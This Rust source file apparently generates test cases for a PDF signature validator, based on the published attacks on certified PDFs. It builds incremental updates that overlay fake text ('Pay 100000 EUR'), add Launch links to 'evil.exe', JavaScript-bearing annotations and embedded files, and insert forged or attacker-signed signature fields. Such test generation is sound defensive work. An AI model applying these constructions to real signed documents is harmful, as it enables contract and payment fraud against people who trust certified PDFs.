//! Certified documents in which more is done than the certification allows, by whoever may do
//! something (Mladenov et al., Attacks on Certified PDFs, S&P 2021).

use super::cms::{Cms, Signer};
use super::original::{Waiting, approval};
use super::update::{Update, body, number_of, stream};
use super::{Attack, Originals};

const EVIL: &str = "1 g 0 0 400 40 re f 0 g BT /F1 24 Tf 0 10 Td (Pay 100000 EUR) Tj ET";
const FORM: &str = "/Type/XObject/Subtype/Form/BBox[0 0 400 40]/Resources 6 0 R";

pub(super) fn attacks(originals: &Originals) -> Vec<Attack> {
    let [none, forms, annotations] = &originals.certified;
    let mut attacks = sneaky_signatures(originals);
    let levels = [(none, 1), (forms, 2)];
    for (signed, level) in levels {
        for (name, annotation) in harmless() {
            let name = format!("certification-annotation-{name}-under-{level}");
            attacks.push(Attack::new(&name, annotated(signed, &annotation)));
        }
    }
    for (signed, level) in [(none, 1), (forms, 2), (annotations, 3)] {
        for (name, annotation) in harmful() {
            let name = format!("certification-annotation-{name}-under-{level}");
            attacks.push(Attack::new(&name, annotated(signed, &annotation)));
        }
    }
    attacks
}

/// A signed document with one more annotation on its first page.
fn annotated(signed: &[u8], annotation: &str) -> Vec<u8> {
    Update::of(signed)
        .object(9, body(signed, 9).replace(']', " 700 0 R]"))
        .object(700, annotation)
        .object(701, stream(FORM, EVIL))
        .object(702, "<</Type/Filespec/F(evil.exe)/EF<</F 703 0 R>>>>")
        .object(703, stream("/Type/EmbeddedFile", "evil"))
        .write()
}

const OVER: &str = "/Rect[72 690 472 730]/P 3 0 R/F 4/AP<</N 701 0 R>>";

/// Annotations that a person makes, which level 3 allows and others do not.
fn harmless() -> Vec<(&'static str, String)> {
    let kinds = [
        "Text",
        "FreeText",
        "Line",
        "Square",
        "Circle",
        "Polygon",
        "PolyLine",
        "Highlight",
        "Underline",
        "Squiggly",
        "StrikeOut",
        "Stamp",
        "Caret",
        "Ink",
        "Popup",
    ];
    kinds
        .map(|kind| {
            (
                kind,
                format!("<</Type/Annot/Subtype/{kind}/Contents(x){OVER}>>"),
            )
        })
        .to_vec()
}

/// Annotations that are no remark of a person: they act, play, carry a file, take away what is
/// below them, or are not said to be anything.
fn harmful() -> Vec<(&'static str, String)> {
    let of = |kind: &str, entries: &str| format!("<</Type/Annot/Subtype/{kind}{OVER}{entries}>>");
    vec![
        (
            "link-to-a-program",
            of("Link", "/A<</S/Launch/F(evil.exe)>>"),
        ),
        ("link-to-a-script", of("Link", "/A<</S/JavaScript/JS(x)>>")),
        (
            "stamp-with-a-script",
            of("Stamp", "/A<</S/JavaScript/JS(x)>>"),
        ),
        (
            "stamp-that-acts",
            of("Stamp", "/AA<</E<</S/JavaScript/JS(x)>>>>"),
        ),
        ("file", of("FileAttachment", "/FS 702 0 R")),
        ("sound", of("Sound", "/Sound 703 0 R")),
        ("movie", of("Movie", "/Movie<</F 702 0 R>>")),
        ("screen", of("Screen", "/A<</S/Rendition>>")),
        ("rich-media", of("RichMedia", "/RichMediaContent<<>>")),
        ("three-dimensions", of("3D", "/3DD 703 0 R")),
        ("redaction", of("Redact", "/OverlayText(x)")),
        ("watermark", of("Watermark", "")),
        ("printer-mark", of("PrinterMark", "")),
        ("trap-net", of("TrapNet", "")),
        ("projection", of("Projection", "")),
        ("unknown", of("Evil", "")),
        ("of-no-type", format!("<<{OVER}>>")),
        ("widget", of("Widget", "")),
        ("widget-of-a-field", of("Widget", "/FT/Tx/T(New)/V(x)")),
        ("with-a-file", of("Stamp", "/AF[702 0 R]")),
    ]
}

/// A signature of somebody else over the page, in a field of its own or in one that is there.
fn sneaky_signatures(originals: &Originals) -> Vec<Attack> {
    let mut attacks = Vec::new();
    let mallory = &originals.people.mallory;
    let by_mallory = |waiting: Waiting| {
        let signer = Signer::honest(mallory, &waiting.digest());
        let signature = Cms::of(signer, &[mallory]).der();
        waiting.complete(&signature)
    };
    for original in originals.numbered() {
        let (name, signed) = (original.name, &original.file);
        let mut add = |what: &str, file: Vec<u8>| {
            attacks.push(Attack::new(
                &format!("sneaky-signature-{what}-{name}"),
                file,
            ));
        };
        if name == "streams" {
            continue;
        }
        add(
            "of-mallory-over-the-page",
            by_mallory(field_by_hand(signed, OVER)),
        );
        add(
            "of-mallory-unseen",
            by_mallory(field_by_hand(signed, NOWHERE)),
        );
        add("of-zeros", field_by_hand(signed, OVER).complete(&[]));
        let other = originals.people.sign(&[7; 32]);
        add(
            "of-another-document",
            field_by_hand(signed, OVER).complete(&other),
        );
        if matches!(name, "approved" | "certified-2" | "certified-3") {
            let filled = Waiting::lay_out(signed, approval);
            add("of-mallory-in-the-empty-field", by_mallory(filled));
        }
        let first = number_of(signed, "/Type/Sig/");
        add("without-a-signature", unsigned(signed, ""));
        add("of-a-date", unsigned(signed, "/V(2026)"));
        add(
            "of-the-first-signature",
            unsigned(signed, &format!("/V {first} 0 R")),
        );
        add("of-a-prepared-object", unsigned(signed, "/V 25 0 R"));
        add("of-an-empty-dictionary", unsigned(signed, "/V<<>>"));
    }
    for (level, file) in by_ada_where_forbidden(originals) {
        attacks.push(Attack::new(
            &format!("signature-where-{level}-forbids-it"),
            file,
        ));
    }
    attacks
}

const NOWHERE: &str = "/Rect[0 0 0 0]/P 3 0 R/F 132";

/// A signed document with a new field whose value is still to be put in, whatever the document
/// permits.
fn field_by_hand(signed: &[u8], entries: &str) -> Waiting {
    let room = "0".repeat(6000);
    let value = format!(
        "<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached\
         /ByteRange{:60}/Contents<{room}>>>",
        "[]"
    );
    let file = field_added(signed, entries, "/V 702 0 R")
        .object(702, value)
        .write();
    let waiting = Waiting::of(&file);
    let [_, start, end, rest] = waiting.ranges();
    waiting.with_byte_range(&format!("[0 {start} {end} {rest}]"))
}

fn field_added<'f>(signed: &'f [u8], entries: &str, value: &str) -> Update<'f> {
    Update::of(signed)
        .object(9, body(signed, 9).replace(']', " 700 0 R]"))
        .object(10, body(signed, 10).replacen(']', " 700 0 R]", 1))
        .object(
            700,
            format!("<</Type/Annot/Subtype/Widget/FT/Sig/T(New){entries}{value}>>"),
        )
        .object(701, stream(FORM, EVIL))
}

/// A new signature field over the page with some value.
fn unsigned(signed: &[u8], value: &str) -> Vec<u8> {
    field_added(signed, OVER, value).write()
}

/// Signatures that hold, of somebody who is trusted, where the first signature allows none.
fn by_ada_where_forbidden(originals: &Originals) -> Vec<(&'static str, Vec<u8>)> {
    let [none, forms, _] = &originals.certified;
    let by_ada = |signed: &[u8], entries: &str| {
        let waiting = field_by_hand(signed, entries);
        let signature = originals.people.sign(&waiting.digest());
        waiting.complete(&signature)
    };
    vec![
        ("level-1", by_ada(none, NOWHERE)),
        ("level-1-shown", by_ada(none, OVER)),
        ("level-2-a-new-box", by_ada(forms, OVER)),
        ("a-lock-of-all-fields", by_ada(&originals.locked, NOWHERE)),
    ]
}
